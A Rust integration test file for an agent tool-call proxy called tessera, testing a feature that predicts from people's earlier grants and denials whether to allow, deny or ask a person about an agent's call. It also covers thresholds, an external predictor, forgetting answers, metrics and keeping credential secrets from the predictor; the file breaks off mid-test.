//! Issue 26, approvals that learn: a permit marked `@ask("learn")` holds
//! calls like `@ask`, but tessera first predicts whether a person would
//! approve from the grants and denials people already gave, and allows,
//! denies or asks by the organization's costs. Real processes and HTTP:
//! the data plane via `serve::run`, people's answers through the real CLI,
//! an external predictor listening in the test.
//!
//! The costs used here (wrong allow 4, wrong deny 5, ask 1) put the
//! thresholds at 0.75 (allow) and 0.2 (deny); with a Beta(1,1) prior and
//! one-sided 95% bounds, 10 grants (and no denial) of one tool and argument
//! shape allow, 9 do not, 14 (or 13) denials deny, 12 do not.

use std::time::Duration;

use serde_json::{json, Value};
use tokio::sync::mpsc;

use crate::support::*;

/// A `tools/call` of `tool` with `arguments`.
fn call(id: u32, tool: &str, arguments: Value) -> String {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
        "params": {"name": tool, "arguments": arguments}})
    .to_string()
}

/// `run_*`'s arguments: one shape ({suite: string}), values told apart by `n`.
fn suite(n: u32) -> Value {
    json!({"suite": format!("suite-{n}")})
}

/// The text of a tool result.
fn text_of(v: &Value) -> &str {
    v["result"]["content"][0]["text"].as_str().unwrap_or("")
}

/// The approval id a held call's text names.
fn approval_in(v: &Value) -> String {
    assert_eq!(v["result"]["isError"], true, "{v}");
    let text = text_of(v);
    let at = text.find("approval ap_").expect(text) + "approval ".len();
    text[at..at + 15].to_string()
}

/// Whether a call was answered by a prediction's denial: an error result
/// that says so and names no approval.
fn predicted_denial(v: &Value) -> bool {
    let text = text_of(v);
    v["result"]["isError"] == true
        && text.contains("predicts this one would be denied")
        && text.contains("retry")
        && !text.contains("approval ap_")
}

/// `f`, which an event ends, within 10 s (a failure, not a hang).
async fn soon<T>(f: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(Duration::from_secs(10), f)
        .await
        .expect("the event did not come within 10 s")
}

fn ran(v: &Value) -> bool {
    v["result"]["echo"] == "tools/call"
}

fn ok(o: std::process::Output) -> String {
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout).unwrap()
}

/// The CLI's refusal: it failed, and its stderr.
fn refused(o: std::process::Output) -> String {
    assert!(
        !o.status.success(),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    String::from_utf8(o.stderr).unwrap()
}

fn show(p: &Proxy, id: &str) -> Value {
    serde_json::from_str(&ok(p.cli(&["approval", "show", id, "--json"]))).unwrap()
}

/// Every approval recorded, in any state.
async fn approvals(p: &Proxy) -> usize {
    p.store().approvals(true, 1000).await.unwrap().len()
}

/// The connection id an agent's URL ends with.
fn connection_of(a: &Agent) -> String {
    a.url
        .rsplit("/c/")
        .next()
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string()
}

/// The test costs: allow above 0.75, deny below 0.2. The prediction's
/// deadline is a generous 5 s, not the default 50 ms: a test machine under
/// load must not turn a prediction into an ask (the deadline has a test of
/// its own).
fn test_settings(c: &mut tessera::config::ServeConfig) {
    c.predict.timeout = Duration::from_secs(5);
    c.predict.costs.wrong_allow = 4.0;
    c.predict.costs.wrong_deny = 5.0;
    c.predict.costs.ask = 1.0;
}

/// The same costs as CLI flags.
const COST_FLAGS: [&str; 6] = [
    "--cost-wrong-allow",
    "4",
    "--cost-wrong-deny",
    "5",
    "--cost-ask",
    "1",
];

/// A proxy holding `run*` calls with `@ask("learn")`, at the test costs
/// (then set up further by `tweak`).
async fn learn_proxy(tweak: impl FnOnce(&mut tessera::config::ServeConfig)) -> Proxy {
    Proxy::start_with_policies(
        Proxy::dir(),
        |c| {
            test_settings(c);
            tweak(c);
        },
        policies_with(&["learn-from-approvals"]),
    )
    .await
}

/// Calls `tool` with the argument values `ns` (each held for a person,
/// asserted) and returns their approval ids, in order.
async fn hold(a: &Agent, tool: &str, ns: std::ops::RangeInclusive<u32>) -> Vec<String> {
    let mut ids = Vec::new();
    for n in ns {
        let (s, v) = post_json(a, call(n, tool, suite(n))).await;
        assert_eq!(s, 200, "{v}");
        assert!(!ran(&v), "call {n} of {tool} ran: {v}");
        ids.push(approval_in(&v));
    }
    ids
}

/// A person answers each approval through the CLI: `grant` or `deny`.
fn answer(p: &Proxy, ids: &[String], decision: &str) {
    for id in ids {
        ok(p.cli(&["approval", decision, id]));
    }
}

/// The most recent audit row of `tool`.
async fn last_row_of(p: &Proxy, tool: &str) -> tessera::store::model::AuditRecord {
    audit_rows(p)
        .await
        .into_iter()
        .rfind(|r| r.tool.as_deref() == Some(tool))
        .unwrap_or_else(|| panic!("no audit row of {tool}"))
}

#[tokio::test]
async fn ten_grants_allow_the_next_call_and_nine_do_not() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;

    // Nine grants of run_tests {suite: string}: the next call still asks.
    let ids = hold(&a, "run_tests", 1..=9).await;
    answer(&p, &ids, "grant");
    let (_, v) = post_json(&a, call(10, "run_tests", suite(10))).await;
    let tenth = approval_in(&v);
    assert!(!ids.contains(&tenth));
    assert_eq!(approvals(&p).await, 10);

    // The tenth grant: a call with new values runs without asking.
    answer(&p, &[tenth], "grant");
    let (s, v) = post_json(&a, call(11, "run_tests", json!({"suite": "never-seen"}))).await;
    assert_eq!(s, 200);
    assert!(ran(&v), "not allowed after 10 grants: {v}");
    assert_eq!(up.seen().len(), 1);
    let forwarded: Value = serde_json::from_slice(&up.seen()[0].body).unwrap();
    assert_eq!(forwarded["params"]["arguments"]["suite"], "never-seen");
    assert_eq!(approvals(&p).await, 10, "an approval was created");
    let pending = ok(p.cli(&["approval", "list", "--json"]));
    assert!(!pending.contains("never-seen"), "{pending}");

    let row = last_row_of(&p, "run_tests").await;
    assert_eq!(row.verdict, "allow", "{row:?}");
    let reason = row.reason.clone().unwrap_or_default();
    assert!(reason.starts_with("predicted approval"), "{reason}");
    assert!(
        reason.contains("10 grants") && reason.contains("0 denials"),
        "{reason}"
    );
    assert!(reason.contains("learn-from-approvals"), "{reason}");
}

#[tokio::test]
async fn one_denial_brings_the_next_call_back_to_a_person() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;

    let ids = hold(&a, "run_tests", 1..=11).await;
    answer(&p, &ids[..10], "grant");
    let (_, v) = post_json(&a, call(12, "run_tests", suite(12))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");

    // The 11th is denied: 10 grants and a denial are not enough.
    answer(&p, &ids[10..], "deny");
    let (_, v) = post_json(&a, call(13, "run_tests", suite(13))).await;
    let asked = approval_in(&v);
    assert_eq!(show(&p, &asked)["status"], "pending");
    assert!(!ran(&v), "{v}");
    // A call a person answered follows that answer, whatever the model.
    let (_, v) = post_json(&a, call(14, "run_tests", suite(11))).await;
    assert_eq!(approval_in(&v), ids[10]);
    assert!(text_of(&v).contains("denied"), "{v}");
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn another_tool_still_asks_once_one_is_learned() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");

    // run_lint, same shape, same caller: nothing learned of it.
    let (_, v) = post_json(&a, call(12, "run_lint", suite(12))).await;
    let id = approval_in(&v);
    assert_eq!(show(&p, &id)["tool"], "run_lint");
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn other_callers_answers_may_deny_but_never_allow() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let b = p.agent("gh", &up.url("/mcp"), "other").await;
    assert_ne!(connection_of(&a), connection_of(&b));

    // agent's ten grants of run_tests allow agent, not the other caller.
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");
    let (_, v) = post_json(&b, call(12, "run_tests", suite(12))).await;
    let id = approval_in(&v);
    assert_eq!(show(&p, &id)["caller"], "other");
    assert_eq!(up.seen().len(), 1);

    // agent's fourteen denials of run_build deny the other caller's call.
    let ids = hold(&a, "run_build", 101..=114).await;
    answer(&p, &ids, "deny");
    let before = approvals(&p).await;
    let (s, v) = post_json(&b, call(115, "run_build", suite(115))).await;
    assert_eq!(s, 200);
    assert!(predicted_denial(&v), "{v}");
    assert_eq!(approvals(&p).await, before, "an approval was created");
    let row = last_row_of(&p, "run_build").await;
    assert_eq!(
        (row.caller.as_str(), row.verdict.as_str()),
        ("other", "deny")
    );
    assert!(
        row.reason
            .as_deref()
            .unwrap_or("")
            .starts_with("predicted denial"),
        "{row:?}"
    );
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn a_predicted_denial_says_so_and_its_retry_asks_a_person() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_build", 1..=14).await;

    // Twelve denials: not enough to deny (upper bound 0.206).
    answer(&p, &ids[..12], "deny");
    let (_, v) = post_json(&a, call(15, "run_build", suite(15))).await;
    approval_in(&v);

    // Fourteen: denied by prediction, no approval created.
    answer(&p, &ids[12..], "deny");
    let before = approvals(&p).await;
    let (s, v) = post_json(&a, call(16, "run_build", suite(16))).await;
    assert_eq!(s, 200);
    assert!(predicted_denial(&v), "{v}");
    assert_eq!(approvals(&p).await, before, "an approval was created");
    let row = last_row_of(&p, "run_build").await;
    assert_eq!(row.verdict, "deny");
    let reason = row.reason.unwrap_or_default();
    assert!(reason.starts_with("predicted denial"), "{reason}");
    assert!(reason.contains("14 denials"), "{reason}");

    // The same call again: a person is asked this time, not the model.
    let (_, v) = post_json(&a, call(17, "run_build", suite(16))).await;
    let id = approval_in(&v);
    assert!(!ids.contains(&id));
    let s = show(&p, &id);
    assert_eq!(s["status"], "pending");
    assert_eq!(s["arguments"], suite(16).to_string());
    // And a person's grant of it runs it.
    ok(p.cli(&["approval", "grant", &id]));
    let (_, v) = post_json(&a, call(18, "run_build", suite(16))).await;
    assert!(ran(&v), "{v}");
    assert_eq!(up.seen().len(), 1);
}

/// An external predictor: each body it gets is sent on the channel, and
/// it answers what `answer` holds then (status, body).
async fn predictor(
    first: (u16, String),
) -> (
    url::Url,
    std::sync::Arc<std::sync::Mutex<(u16, String)>>,
    mpsc::UnboundedReceiver<String>,
) {
    let (tx, rx) = mpsc::unbounded_channel();
    let answer = std::sync::Arc::new(std::sync::Mutex::new(first));
    let a = answer.clone();
    let app = axum::Router::new().route(
        "/predict",
        axum::routing::post(move |body: String| {
            let (tx, a) = (tx.clone(), a.clone());
            async move {
                let _ = tx.send(body);
                let (status, body) = a.lock().unwrap().clone();
                (
                    axum::http::StatusCode::from_u16(status).unwrap(),
                    [("content-type", "application/json")],
                    body,
                )
            }
        }),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/predict", l.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(l, app).await });
    (url.parse().unwrap(), answer, rx)
}

#[tokio::test]
async fn an_external_predictor_decides_and_its_failures_ask_a_person() {
    let up = Upstream::start().await;
    let (url, answer, mut got) = predictor((
        200,
        json!({"p": 0.99, "reason": "model-Kx3 is sure"}).to_string(),
    ))
    .await;
    let p = learn_proxy(|c| c.predict.url = Some(url)).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;

    // p = 0.99 > 0.75, with no evidence at all: allowed.
    let distinct = "Zr8-distinct-value";
    let (_, v) = post_json(&a, call(1, "run_tests", json!({"suite": distinct}))).await;
    assert!(ran(&v), "{v}");
    assert_eq!(approvals(&p).await, 0);
    let body: Value = serde_json::from_str(&soon(got.recv()).await.unwrap()).unwrap();
    assert_eq!(body["caller"], "agent", "{body}");
    assert_eq!(body["tool"], "run_tests", "{body}");
    assert_eq!(body["rpc_method"], "tools/call", "{body}");
    assert_eq!(body["credential"], "gh", "{body}");
    assert_eq!(body["connection"], connection_of(&a), "{body}");
    assert!(body["shape"].to_string().contains("suite"), "{body}");
    // Without --audit-arguments no value leaves tessera.
    assert!(body.get("arguments").is_none(), "{body}");
    assert!(!body.to_string().contains(distinct), "{body}");
    let row = last_row_of(&p, "run_tests").await;
    assert_eq!(row.verdict, "allow");
    let reason = row.reason.unwrap_or_default();
    assert!(reason.starts_with("predicted approval"), "{reason}");
    assert!(reason.contains("0.99"), "{reason}");
    assert!(reason.contains("model-Kx3"), "{reason}");

    // p = 0.1 < 0.2: denied by prediction.
    *answer.lock().unwrap() = (200, json!({"p": 0.1, "reason": "no"}).to_string());
    let (_, v) = post_json(&a, call(2, "run_tests", suite(2))).await;
    assert!(predicted_denial(&v), "{v}");
    assert_eq!(approvals(&p).await, 0);

    // p = 0.5: between the thresholds, a person is asked, nothing failed.
    *answer.lock().unwrap() = (200, json!({"p": 0.5, "reason": "unsure"}).to_string());
    let (_, v) = post_json(&a, call(3, "run_tests", suite(3))).await;
    let id = approval_in(&v);
    let r = show(&p, &id)["reason"].as_str().unwrap_or("").to_string();
    assert!(!r.contains("prediction failed"), "{r}");

    // Garbage, p out of range, a 500: asked, the failure recorded.
    for (n, failing) in [
        (4, (200, "not json at all".to_string())),
        (5, (200, json!({"p": 1.5}).to_string())),
        (6, (200, json!({"reason": "no p"}).to_string())),
        (7, (500, json!({"p": 0.99}).to_string())),
    ] {
        *answer.lock().unwrap() = failing.clone();
        let (s, v) = post_json(&a, call(n, "run_tests", suite(n))).await;
        assert_eq!(s, 200);
        assert!(!ran(&v), "{failing:?}: {v}");
        let id = approval_in(&v);
        let s = show(&p, &id);
        assert_eq!(s["status"], "pending");
        let r = s["reason"].as_str().unwrap_or("");
        assert!(r.contains("prediction failed"), "{failing:?}: {s}");
        let row = last_row_of(&p, "run_tests").await;
        assert!(
            row.reason
                .as_deref()
                .unwrap_or("")
                .contains("prediction failed"),
            "{failing:?}: {row:?}"
        );
    }
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn with_audit_arguments_the_predictor_sees_the_values() {
    let up = Upstream::start().await;
    let (url, _, mut got) = predictor((200, json!({"p": 0.99}).to_string())).await;
    let p = learn_proxy(|c| {
        c.predict.url = Some(url);
        c.audit_arguments = true;
    })
    .await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let (_, v) = post_json(&a, call(1, "run_tests", json!({"suite": "Wd4-visible"}))).await;
    assert!(ran(&v), "{v}");
    let body = soon(got.recv()).await.unwrap();
    assert!(body.contains("Wd4-visible"), "{body}");
}

#[tokio::test]
async fn a_predictor_that_never_answers_is_dropped_at_the_deadline() {
    use tokio::io::AsyncReadExt;
    let up = Upstream::start().await;
    // Accepts, reads, never answers; tells when the request came and
    // when tessera closed the connection.
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url: url::Url = format!("http://{}/predict", l.local_addr().unwrap())
        .parse()
        .unwrap();
    let (read_tx, mut read_rx) = mpsc::unbounded_channel::<()>();
    let (eof_tx, mut eof_rx) = mpsc::unbounded_channel::<()>();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let (read_tx, eof_tx) = (read_tx.clone(), eof_tx.clone());
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                loop {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => {
                            let _ = eof_tx.send(());
                            return;
                        }
                        Ok(_) => {
                            let _ = read_tx.send(());
                        }
                    }
                }
            });
        }
    });
    let p = learn_proxy(|c| {
        c.predict.url = Some(url);
        c.predict.timeout = Duration::from_millis(200);
    })
    .await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;

    let started = std::time::Instant::now();
    let (s, v) = soon(post_json(&a, call(1, "run_tests", suite(1)))).await;
    let took = started.elapsed();
    assert_eq!(s, 200);
    let id = approval_in(&v);
    assert!(took >= Duration::from_millis(200), "{took:?}");
    assert!(took < Duration::from_secs(5), "{took:?}");
    soon(read_rx.recv()).await.unwrap();
    let shown = show(&p, &id);
    assert_eq!(shown["status"], "pending");
    assert!(
        shown["reason"]
            .as_str()
            .unwrap_or("")
            .contains("prediction failed"),
        "{shown}"
    );
    // tessera let go of the exchange: the predictor's connection ends.
    soon(eof_rx.recv()).await.unwrap();
    assert!(up.seen().is_empty());
}

#[tokio::test]
async fn explain_agrees_with_serve_and_forget_unlearns() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let b = p.agent("gh", &up.url("/mcp"), "other").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");
    let (_, v) = post_json(&b, call(12, "run_tests", suite(12))).await;
    approval_in(&v);

    let (ca, cb) = (connection_of(&a), connection_of(&b));
    let explain = |caller: &str, conn: &str, json: bool| {
        let args = suite(99).to_string();
        let mut argv = vec![
            "approval",
            "explain",
            "--caller",
            caller,
            "--connection",
            conn,
            "--tool",
            "run_tests",
            "--arguments",
            &args,
        ];
        argv.extend(COST_FLAGS);
        if json {
            argv.push("--json");
        }
        ok(p.cli(&argv))
    };

    // The caller whose grants they are: allow, from the exact level.
    let e: Value = serde_json::from_str(&explain("agent", &ca, true)).unwrap();
    assert_eq!(e["action"], "allow", "{e}");
    assert_eq!(e["level"], "exact", "{e}");
    assert_eq!(e["thresholds"]["allow"], 0.75, "{e}");
    assert_eq!(e["thresholds"]["deny"], 0.2, "{e}");
    assert!(e["shape"].as_str().unwrap().contains("suite"), "{e}");
    let p_value = e["p"].as_f64().unwrap();
    assert!(p_value > 0.75 && p_value < 0.8, "{e}");
    let exact = e["levels"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["level"] == "exact")
        .expect("no exact level")
        .clone();
    // Answers weigh less as they age (the half-life): ten fresh grants
    // weigh nearly 10.
    let grants = exact["grants"].as_f64().unwrap();
    assert!((grants - 10.0).abs() < 0.01, "{exact}");
    assert_eq!(exact["denials"].as_f64(), Some(0.0), "{exact}");
    assert!(exact["lower"].as_f64().unwrap() > 0.75, "{exact}");
    let text = explain("agent", &ca, false);
    assert!(text.contains("0.75") && text.contains("0.2"), "{text}");
    assert!(text.lines().any(|l| l.trim() == "action: allow"), "{text}");

    // The other caller: only the tool level has evidence, and it may not
    // allow.
    let e: Value = serde_json::from_str(&explain("other", &cb, true)).unwrap();
    assert_eq!(e["action"], "ask", "{e}");
    assert_eq!(e["level"], "tool", "{e}");
    let tool = e["levels"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["level"] == "tool")
        .expect("no tool level")
        .clone();
    assert!(
        (tool["grants"].as_f64().unwrap() - 10.0).abs() < 0.01,
        "{e}"
    );
    let text = explain("other", &cb, false);
    assert!(text.lines().any(|l| l.trim() == "action: ask"), "{text}");

    // Forgetting needs a filter; with one, the next call asks again.
    let err = refused(p.cli(&["approval", "forget"]));
    assert!(err.contains("--caller") || err.contains("--all"), "{err}");
    ok(p.cli(&[
        "approval",
        "forget",
        "--caller",
        "agent",
        "--tool",
        "run_tests",
    ]));
    let e: Value = serde_json::from_str(&explain("agent", &ca, true)).unwrap();
    assert_eq!(e["action"], "ask", "{e}");
    let (_, v) = post_json(&a, call(13, "run_tests", suite(13))).await;
    approval_in(&v);
    assert_eq!(up.seen().len(), 1);
}

/// An agent whose `run_tests` calls people granted ten times: learned.
async fn learned() -> (Upstream, Proxy, Agent) {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    (up, p, a)
}

#[tokio::test]
async fn forget_by_caller_drops_that_callers_answers_only() {
    let (up, p, a) = learned().await;
    ok(p.cli(&["approval", "forget", "--caller", "someone-else"]));
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    assert!(ran(&v), "another caller's forget dropped this one's: {v}");
    ok(p.cli(&["approval", "forget", "--caller", "agent"]));
    let (_, v) = post_json(&a, call(12, "run_tests", suite(12))).await;
    approval_in(&v);
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn forget_all_drops_every_answer() {
    let (up, p, a) = learned().await;
    // Forgetting another tool leaves run_tests learned.
    ok(p.cli(&["approval", "forget", "--tool", "run_lint"]));
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");
    ok(p.cli(&["approval", "forget", "--all"]));
    let (_, v) = post_json(&a, call(12, "run_tests", suite(12))).await;
    approval_in(&v);
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn plain_ask_never_predicts() {
    let up = Upstream::start().await;
    let p = Proxy::start_with_policies(
        Proxy::dir(),
        test_settings,
        policies_with(&["ask-for-writes", "learn-from-approvals"]),
    )
    .await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    // Ten grants of write_file (plain @ask) and of run_tests (learning).
    let mut ids = Vec::new();
    for n in 1..=10 {
        let (_, v) = post_json(&a, call(n, "write_file", json!({"path": format!("p{n}")}))).await;
        ids.push(approval_in(&v));
    }
    ids.extend(hold(&a, "run_tests", 21..=30).await);
    answer(&p, &ids, "grant");
    // Only the permit marked to learn acts on them.
    let (_, v) = post_json(&a, call(31, "run_tests", suite(31))).await;
    assert!(ran(&v), "not allowed after 10 grants: {v}");
    let (_, v) = post_json(&a, call(11, "write_file", json!({"path": "p11"}))).await;
    let id = approval_in(&v);
    assert!(!ids.contains(&id));
    assert_eq!(show(&p, &id)["status"], "pending");
    assert_eq!(up.seen().len(), 1);
}

/// The value of the `/metrics` sample of `name` whose labels include all
/// of `labels` (summed over any others), 0 when there is none.
fn sample(metrics: &str, name: &str, labels: &[&str]) -> f64 {
    metrics
        .lines()
        .filter(|l| l.starts_with(&format!("{name}{{")))
        .filter(|l| labels.iter().all(|want| l.contains(want)))
        .map(|l| l.rsplit(' ').next().unwrap().parse::<f64>().unwrap())
        .sum()
}

#[tokio::test]
async fn metrics_count_decisions_by_source() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let api = crate::admin_api::admin_api(&p).await;
    let token = crate::admin_api::admin_token(&p, "ops");
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    // A person's grant used: the same call again.
    let (_, v) = post_json(&a, call(11, "run_tests", suite(1))).await;
    assert!(ran(&v), "{v}");
    assert_eq!(show(&p, &ids[0])["status"], "used");
    // A prediction's allow: a new call.
    let (_, v) = post_json(&a, call(12, "run_tests", suite(12))).await;
    assert!(ran(&v), "{v}");

    let m = crate::admin_api::metrics_text(&api, &token).await;
    let name = "tessera_decisions_total";
    let allow_predicted = sample(&m, name, &[r#"action="allow""#, r#"source="prediction""#]);
    let allow_person = sample(&m, name, &[r#"action="allow""#, r#"source="person""#]);
    let asked = sample(&m, name, &[r#"action="ask""#]);
    assert_eq!(allow_predicted, 1.0, "{m}");
    assert_eq!(allow_person, 1.0, "{m}");
    assert_eq!(asked, 10.0, "{m}");
}

#[tokio::test]
async fn the_console_shows_the_prediction_of_a_pending_approval() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let api = crate::admin_api::admin_api(&p).await;
    let token = crate::admin_api::admin_token(&p, "alice");
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=4).await;
    answer(&p, &ids[..3], "grant");
    let pending = &ids[3];

    let c = reqwest::Client::builder()
        .no_proxy()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let r = c
        .post(format!("{api}/ui/login"))
        .header("origin", &api)
        .form(&[("token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    let set = r.headers()["set-cookie"].to_str().unwrap().to_string();
    let cookie = set.split(';').next().unwrap().to_string();
    let html = c
        .get(format!("{api}/ui"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let at = html
        .find(&format!("data-approval=\"{pending}\""))
        .unwrap_or_else(|| panic!("{pending} not listed: {html}"));
    // Next to it (before the next approval's row), its prediction.
    let row = &html[at..];
    let row = &row[..row[1..]
        .find("data-approval=\"")
        .map_or(row.len(), |e| e + 1)];
    assert!(row.to_lowercase().contains("prediction"), "{row}");
}

#[tokio::test]
async fn config_check_shows_the_thresholds_and_refuses_crossed_costs() {
    let dir = Proxy::dir();
    let prediction_line = |out: &str| {
        out.lines()
            .find(|l| l.starts_with("prediction"))
            .unwrap_or_else(|| panic!("no thresholds: {out}"))
            .to_string()
    };
    // The defaults (100, 5, 1): allow above 0.99, deny below 0.2.
    let line = prediction_line(&ok(cli(dir.path(), &["config", "check"])));
    assert!(line.contains("0.99") && line.contains("0.2"), "{line}");
    let mut args = vec!["config", "check"];
    args.extend(COST_FLAGS);
    let line = prediction_line(&ok(cli(dir.path(), &args)));
    assert!(line.contains("0.75") && line.contains("0.2"), "{line}");
    // Asking costs so much that deny's threshold passes allow's.
    let o = cli(dir.path(), &["config", "check", "--cost-ask", "10"]);
    assert!(!o.status.success());
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(said.contains("--cost-ask"), "{said}");
}

/// A JSON-RPC batch of `tools/call`s of (tool, arguments).
fn batch(calls: &[(u32, &str, Value)]) -> String {
    let items: Vec<Value> = calls
        .iter()
        .map(|(id, tool, args)| serde_json::from_str(&call(*id, tool, args.clone())).unwrap())
        .collect();
    Value::Array(items).to_string()
}

#[tokio::test]
async fn in_a_batch_each_call_is_predicted_and_one_held_call_holds_it_whole() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");

    // A learned call beside a plainly allowed one: forwarded whole.
    let (s, v) = post_json(
        &a,
        batch(&[(11, "run_tests", suite(11)), (12, "search", json!({}))]),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v.as_array().map(Vec::len), Some(2), "{v}");
    assert_eq!(up.seen().len(), 1);

    // A learned call beside one nobody answered: held whole, the learned
    // one given no approval.
    let before = approvals(&p).await;
    let (s, v) = post_json(
        &a,
        batch(&[(13, "run_tests", suite(13)), (14, "run_lint", suite(14))]),
    )
    .await;
    assert_eq!(s, 403, "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("approval ap_"),
        "{v}"
    );
    assert_eq!(approvals(&p).await, before + 1);
    let newest = &p.store().approvals(false, 1).await.unwrap()[0];
    assert_eq!(newest.key.tool, "run_lint");
    assert_eq!(up.seen().len(), 1);
}

#[tokio::test]
async fn a_batch_denied_by_prediction_is_held_for_a_person_when_sent_again() {
    let up = Upstream::start().await;
    let p = learn_proxy(|_| {}).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_build", 1..=14).await;
    answer(&p, &ids, "deny");

    // Two calls the model denies, in one batch.
    let twice = batch(&[(15, "run_build", suite(15)), (16, "run_build", suite(16))]);
    let (s, v) = post_json(&a, twice.clone()).await;
    assert_eq!(s, 403, "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("send the same request again"), "{msg}");
    let before = approvals(&p).await;

    // As the answer says: the same request again is held for a person.
    let (s, v) = post_json(&a, twice).await;
    assert_eq!(s, 403, "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("needs a person's approval") && msg.matches("ap_").count() == 2,
        "the batch's retry was not held for a person: {msg}"
    );
    assert_eq!(approvals(&p).await, before + 2);
    assert!(up.seen().is_empty());
}

/// Forgetting: with a half-life of a millisecond, answers given even a few
/// milliseconds ago (each grant is a CLI process of its own, far longer)
/// weigh next to nothing, so ten grants are too few answers to act on.
#[tokio::test]
async fn old_answers_weigh_less() {
    let up = Upstream::start().await;
    let p = learn_proxy(|c| c.predict.half_life = Duration::from_millis(1)).await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    let ids = hold(&a, "run_tests", 1..=10).await;
    answer(&p, &ids, "grant");
    let (_, v) = post_json(&a, call(11, "run_tests", suite(11))).await;
    let id = approval_in(&v);
    let reason = show(&p, &id)["reason"].as_str().unwrap_or("").to_string();
    // Ten answers, weighing next to nothing: a person decides.
    assert!(
        reason.contains("a person decides from 0 grants, 0 denials at exact"),
        "{reason}"
    );
    assert!(up.seen().is_empty());
}

/// The credential's secret, wherever an agent puts it (a tool's name, an
/// argument's name, an argument's value with --audit-arguments), never
/// reaches the predictor: it is redacted as the webhook's notice and the
/// audit reason are.
#[tokio::test]
async fn the_predictor_never_gets_the_credentials_secret() {
    let up = Upstream::start().await;
    let (url, _, mut got) = predictor((200, json!({"p": 0.5}).to_string())).await;
    let p = learn_proxy(|c| {
        c.predict.url = Some(url);
        c.audit_arguments = true;
    })
    .await;
    let a = p.agent("gh", &up.url("/mcp"), "agent").await;
    for (n, tool, args) in [
        (1, "run_tests".to_string(), json!({SECRET: 1})),
        (2, format!("run_{SECRET}"), json!({})),
        (3, "run_tests".to_string(), json!({"suite": SECRET})),
    ] {
        let (_, v) = post_json(&a, call(n, &tool, args)).await;
        approval_in(&v);
        let body = soon(got.recv()).await.unwrap();
        assert!(
